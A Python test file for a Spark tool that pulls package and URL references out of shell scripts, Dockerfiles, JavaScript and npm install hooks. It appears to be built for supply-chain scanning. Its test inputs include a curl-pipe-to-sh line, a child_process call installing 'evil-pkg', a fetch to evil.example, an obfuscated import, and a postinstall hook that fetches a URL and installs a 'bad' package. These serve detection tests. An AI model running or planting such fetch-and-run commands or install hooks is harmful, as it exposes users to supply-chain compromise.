from tessera.functions.udfs import blocked_ip_one, percent_decode_one, unescape_one
from tessera.operators import recognize as R

SHELL = r"""npm install -g left-pad@1.3.0 @s/n@2 ./local
RUN uv pip install requests[socks]==2.31 'x' > log.txt
cargo install --locked ripgrep@14 && go get github.com/a/b@v1
composer require vendor/pkg:^1.0; gem install rails
curl https://example.com/x.sh | sh
pacman -Ss nope
pacman -Syu vim
conda install conda-forge::numpy=1.2
deno add jsr:@std/fs@1 npm:chalk
git clone -q https://github.com/o/r.git
pip install -r requirements.txt
"""
DOCKER = "FROM ubuntu:22.04\nRUN apt-get install -y curl=7.8 git\nFROM python:3-slim\nRUN apt-get install wget:amd64\nFROM cgr.dev/chainguard/x\nRUN apk add jq\nFROM scratch\nRUN apk add bash"
JS = "const r = require('child_process').exec(\"npm install evil-pkg\"); import('node:fs'); import(\"@a/b/deep\"); import('\\x6codash');\nfetch('https://evil.example/a')"


def found(spark, text, kind):
    files = spark.createDataFrame([(1, kind, text)], "file_id long, file_type string, text string")
    return {r.locator: r for r in R.references(files).collect()}


def test_shell(spark):
    got = found(spark, SHELL, "shell")
    want = {
        "pkg:npm/left-pad@1.3.0", "pkg:npm/%40s/n@2", "pkg:pypi/requests@2.31", "pkg:cargo/ripgrep@14", "pkg:golang/github.com/a/b@v1", "pkg:composer/vendor/pkg",
        "pkg:gem/rails", "https://example.com/x.sh", "pkg:arch/vim", "pkg:conda/numpy@1.2", "pkg:jsr/%40std/fs@1", "pkg:npm/chalk", "https://github.com/o/r", "https://github.com/o/r.git",
    }
    assert set(got) == want
    assert got["https://github.com/o/r"].kind == "repository"
    assert got["https://example.com/x.sh"].offset == SHELL.index("curl")


def test_dockerfile_context(spark):
    assert set(found(spark, DOCKER, "dockerfile")) == {"pkg:ubuntu/curl@7.8", "pkg:ubuntu/git", "pkg:debian/wget", "pkg:wolfi/jq", "pkg:alpine/bash"}


def test_source(spark):
    assert set(found(spark, JS, "javascript")) == {"pkg:npm/evil-pkg", "pkg:npm/%40a/b", "pkg:npm/lodash", "https://evil.example/a"}


def test_hooks_and_declared_and_undeclared(spark):
    files = spark.createDataFrame([(1, "other", "")], "file_id long, file_type string, text string")
    facts = spark.createDataFrame([(1, '{"npm": {"scripts": {"postinstall": "curl http://e.com/a && npm i bad", "install": 5}}}')], "file_id long, values string")
    declared = spark.createDataFrame([(1, 0, "purl", "pkg:npm/good@1", "dependency", "manifest", "good")], "file_id long, seq int, locator_type string, locator string, kind string, source string, evidence string")
    refs = R.references(files, declared, facts).withColumnRenamed("file_id", "package_id")
    assert {(r.locator, r.source) for r in refs.collect()} == {("pkg:npm/good@1", "manifest"), ("http://e.com/a", "npm.scripts.postinstall"), ("pkg:npm/bad", "npm.scripts.postinstall")}
    assert [r.locator for r in R.undeclared_packages(refs).collect()] == ["pkg:npm/bad"]


def test_import_calls(spark):
    rows = [(1, 0, "javascript", "require", [("string", "vscode")], 1), (1, 1, "javascript", "require", [("string", "lodash/x")], 2), (1, 2, "ruby", "require", [("string", "y")], 3), (1, 3, "python", "__import__", [("string", "requests.x")], 4), (1, 4, "python", "import_module", [], 5)]
    df = spark.createDataFrame(rows, "file_id long, pos int, file_type string, target string, args array<struct<kind: string, value: string>>, offset long")
    assert {r.locator for r in R.import_calls(df).collect()} == {"pkg:npm/lodash", "pkg:pypi/requests"}


def test_scalar_functions():
    assert unescape_one(r"\x6c\u006fd\u{61}sh\101\n\q\ud800") == "lodashA\nq\\ud800"
    assert percent_decode_one("a%20b%zz+%") == "a b%zz+%"
    blocked = ["127.0.0.1", "10.1.1.1", "::1", "::ffff:10.0.0.1", "fe80::1", "fc00::1", "2002:0a00:0001::", "64:ff9b::7f00:1", "169.254.1.1"]
    assert all(blocked_ip_one(x) for x in blocked) and not any(blocked_ip_one(x) for x in ["8.8.8.8", "2606:4700::1111"]) and blocked_ip_one("x") is None


def test_managers_rules_by_head(spark):
    """A head tries its own rules only: the expression doesn't name each rule in a case of its own."""
    from pyspark.sql import functions as F

    from tessera.operators.recognize import match_manager

    cases = {
        "sudo apt-get -y install a": ("apt", 4), "apt-get -y": None, "npm global add x": ("npm", 3), "npm -g i x": ("npm", 3), "npx a": ("npm", 1), "cpan install a": ("cpan", 2), "cpan a": ("cpan", 1), "uv tool install a": ("pypi", 3), "uv tool": None,
        "pip --x install a": ("pypi", 3), "python -m pip install a": ("pypi", 4), "python -m x install a": None, "pacman a -Syu b": ("arch", 3), "yay -x -y -z --sync a": ("aur", 5), "yay a b c d --sync": None, "go npm i x": ("npm", 3), "echo": None,
    }
    df = spark.createDataFrame([(k, k.split()) for k in cases], "k string, toks array<string>").select("k", match_manager(F.col("toks")).alias("m"))
    assert {r.k: tuple(r.m[0]) if r.m else None for r in df.collect()} == cases
    assert df._jdf.queryExecution().analyzed().toString().count("CASE WHEN") < 20
